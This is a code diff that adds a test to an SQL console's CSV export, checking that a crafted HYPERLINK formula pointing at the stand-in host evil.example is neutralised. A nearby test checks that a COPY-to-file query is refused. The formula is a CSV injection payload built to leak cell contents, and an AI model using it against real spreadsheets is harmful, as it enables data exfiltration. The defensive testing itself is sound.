@@ -171,6 +171,13 @@ test('the SQL console runs a query from the URL, shows it as a table and as CSV;
   t.is(csv.text, 'river,n\r\nThames,2\r\nSevern,1\r\nTrent,1\r\n');
   const all = await fx.app.api.get(`${resourcePage()}/query.csv?sql=${encodeURIComponent('SELECT * FROM data ORDER BY station')}`);
   t.is(all.text.replaceAll('\r\n', '\n'), STATIONS_CSV, 'the whole table round-trips');
+  const formula = `SELECT '=HYPERLINK("http://evil.example/?"&A1,"x")' AS a, -5 AS n`;
+  const crafted = await fx.app.api.get(`${resourcePage()}/query.csv?sql=${encodeURIComponent(formula)}`);
+  t.is(
+    crafted.text,
+    `a,n\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-5\r\n`,
+    'a crafted link cannot make a spreadsheet run a formula',
+  );
 
   const refused = await page(`${resourcePage()}/query?sql=${encodeURIComponent("COPY data TO '/tmp/x.csv'")}`);
   t.is(refused.status, 400);
